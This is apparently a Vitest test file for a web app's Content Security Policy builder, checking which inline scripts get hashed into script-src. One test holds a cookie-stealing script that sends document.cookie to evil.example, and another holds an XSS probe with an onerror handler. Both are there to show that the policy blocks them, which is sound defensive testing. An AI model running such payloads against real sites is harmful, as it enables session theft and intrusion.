// @vitest-environment node
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { createCriticalCssInliner } from './critical-css';
import { createPageFinisher } from './finish-page';
import { findInlineCode, scriptHash } from './inline-scripts';
import { createPagePolicies } from './page-policy';

const OPTIONS = { siteUrl: 'https://parley.example', supabaseUrl: 'https://api.parley.example' };
const BOOT = 'window.booted = true;';

/** The client build's template as Vite writes it: a stylesheet link, and here one inline script. */
const TEMPLATE =
  '<!doctype html><html><head><!--page-head-->' +
  `<script>${BOOT}</script><script type="module" crossorigin src="/assets/index-1a.js"></script>` +
  '<link rel="stylesheet" crossorigin href="/assets/style-1a.css"></head>' +
  '<body><div id="root"><!--page-body--></div><!--page-data--></body></html>';

/** The finisher of a client build in a temporary folder, with the real critical CSS inliner. */
function realFinisher(template = TEMPLATE) {
  const clientDir = mkdtempSync(join(tmpdir(), 'parley-policy-'));
  mkdirSync(join(clientDir, 'assets'));
  writeFileSync(join(clientDir, 'assets', 'style-1a.css'), '.title{color:red}');
  return createPageFinisher({
    template,
    routeChunks: {},
    inlineCriticalCss: createCriticalCssInliner({ clientDir }),
  });
}

const scriptSources = (policy: string) =>
  policy
    .split('; ')
    .find((directive) => directive.startsWith('script-src '))!
    .split(' ')
    .slice(1);

describe('createPagePolicies', () => {
  it('allows every inline script the finished document shell runs (the template’s, the stylesheet loader)', async () => {
    const finishPage = realFinisher();
    const page = await finishPage({
      status: 200,
      head: '<title>T</title>',
      body: '<h1 class="title">Hi</h1>',
      data: '<script id="parley-query-state" type="application/json">{}</script>',
      routeModules: [],
    });
    const sources = scriptSources(await createPagePolicies(finishPage, OPTIONS).rendered());
    // Every script of a real page, the critical CSS's own included, is allowed; nothing more.
    const pageScripts = findInlineCode(page).scriptHashes;
    expect(pageScripts).toHaveLength(2);
    expect(pageScripts).toContain(scriptHash(BOOT));
    expect(sources).toEqual(["'self'", ...pageScripts]);
    expect(findInlineCode(page).eventHandlers).toEqual([]);
  });

  it('never allows a script that a rendered page’s content carries', async () => {
    const finishPage = realFinisher();
    const policies = createPagePolicies(finishPage, OPTIONS);
    const smuggled = 'fetch("https://evil.example/?" + document.cookie)';
    const page = await finishPage({
      status: 200,
      head: '',
      body: `<article><script>${smuggled}</script></article>`,
      data: '',
      routeModules: [],
    });
    expect(findInlineCode(page).scriptHashes).toContain(scriptHash(smuggled));
    expect(scriptSources(await policies.rendered())).not.toContain(scriptHash(smuggled));
  });

  it('allows a prerendered page’s own inline scripts (built from code only), and the shell’s', async () => {
    const policies = createPagePolicies(realFinisher(), OPTIONS);
    const own = 'console.log("prerendered")';
    const policy = await policies.prerendered(`<html><body><script>${own}</script></body></html>`)();
    expect(scriptSources(policy)).toContain(scriptHash(own));
    expect(scriptSources(policy)).toContain(scriptHash(BOOT));
  });

  it('finishes the shell once, not per page', async () => {
    const finishPage = vi.fn(async () => `<script>${BOOT}</script>`);
    const policies = createPagePolicies(finishPage, OPTIONS);
    await Promise.all([policies.rendered(), policies.rendered(), policies.prerendered('<p>x</p>')()]);
    expect(finishPage).toHaveBeenCalledOnce();
  });

  it('refuses inline event handlers, which the policy would block (a half-working page)', async () => {
    const withHandler = TEMPLATE.replace('<body>', '<body onload="start()">');
    await expect(createPagePolicies(realFinisher(withHandler), OPTIONS).rendered()).rejects.toThrow(
      /event handlers.*onload="start\(\)"/,
    );
    expect(() =>
      createPagePolicies(realFinisher(), OPTIONS).prerendered('<img src="x" onerror="alert(1)">'),
    ).toThrow(/event handlers/);
  });

  it('tries the shell again after a failure', async () => {
    const finishPage = vi.fn().mockRejectedValueOnce(new Error('no build')).mockResolvedValue('<p>ok</p>');
    const policies = createPagePolicies(finishPage, OPTIONS);
    await expect(policies.rendered()).rejects.toThrow('no build');
    expect(scriptSources(await policies.rendered())).toEqual(["'self'"]);
  });
});
